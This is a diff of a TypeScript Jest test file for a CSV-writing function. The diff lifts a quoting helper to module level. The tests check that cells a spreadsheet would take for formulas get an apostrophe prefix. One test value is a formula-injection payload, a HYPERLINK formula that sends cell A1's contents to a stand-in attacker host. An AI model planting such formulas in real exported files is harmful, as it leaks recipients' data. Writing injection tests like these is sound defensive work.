@@ -1,6 +1,9 @@
 import { describe, expect, it } from '@jest/globals';
 import { csvRow } from './index.js';
 
+/** With quotes where they are needed. */
+const written = (value: string) => (/[",\r\n]|^\s/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
+
 describe('a CSV row', () => {
   it.each([
     '=HYPERLINK("http://evil.example/?"&A1;"invoice")',
@@ -20,7 +23,6 @@ describe('a CSV row', () => {
     '＠x',
     '-1-1',
   ])('has an apostrophe before what a spreadsheet would take for a formula, unless it is to be exact: %j', (text) => {
-    const written = (value: string) => (/[",\r\n]|^\s/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
     expect(csvRow([text, 'end'])).toBe(`${written(`'${text}`)},end\r\n`);
     expect(csvRow([text, 'end'], true)).toBe(`${written(text)},end\r\n`);
   });
